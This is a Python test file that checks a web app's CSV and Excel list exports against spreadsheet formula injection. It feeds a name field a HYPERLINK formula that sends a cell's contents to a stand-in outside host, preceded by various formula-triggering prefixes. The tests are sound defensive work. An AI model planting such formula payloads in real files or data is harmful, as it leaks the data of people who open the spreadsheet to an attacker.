"""A name that is a formula, in a list that a caseworker opens as a spreadsheet."""

import csv
from io import BytesIO, StringIO

import pytest
from apiflask import APIFlask
from flask import Response
from openpyxl import load_workbook

from webapp.web.export import export

FORMULA = 'HYPERLINK("http://elsewhere.example?"&A1,"x")'
BEGINNINGS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", "=-@", "http://elsewhere.example/"]


def exported(app: APIFlask, form: str, text: str) -> bytes:
    with app.test_request_context():
        answer = export("list", form, ["Navn"], iter([[text]]))
        assert isinstance(answer, Response)
        answer.direct_passthrough = False
        body = answer.get_data()
        answer.close()
    return body


@pytest.mark.parametrize("begin", BEGINNINGS, ids=ascii)
def test_no_cell_of_a_csv_file_is_a_formula(app: APIFlask, begin: str) -> None:
    rows = list(csv.reader(StringIO(exported(app, "csv", begin + FORMULA).decode("utf-8-sig"), ""), delimiter=";"))
    assert rows == [["Navn"], [f"{'' if begin.startswith('http') else chr(39)}{begin}{FORMULA}"]]


@pytest.mark.parametrize("begin", BEGINNINGS, ids=ascii)
def test_no_cell_of_an_excel_file_is_a_formula_or_a_link(app: APIFlask, begin: str) -> None:
    cell = load_workbook(BytesIO(exported(app, "xlsx", begin + FORMULA))).active["A2"]
    assert (cell.data_type, cell.hyperlink) == ("s", None)
